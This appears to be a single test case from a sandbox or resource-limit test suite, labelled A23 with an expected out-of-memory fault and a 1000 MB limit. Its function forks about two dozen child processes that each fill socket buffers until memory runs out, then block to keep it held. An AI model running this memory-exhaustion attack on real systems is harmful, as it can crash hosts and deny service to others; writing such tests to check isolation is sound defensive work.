# A23 takes memory that lies in the buffers of sockets, held by children
# fault: out-of-memory
# score: 0
# megabytes: 1000
def attack():
    import os, socket
    for _ in range(24):
        if os.fork() == 0:
            break
    pairs = []
    try:
        while True:
            pairs.append(socket.socketpair())
            for end in pairs[-1]:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
                end.setblocking(False)
                try:
                    while True:
                        end.send(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        pairs.pop()
        os.read(os.pipe()[0], 1)
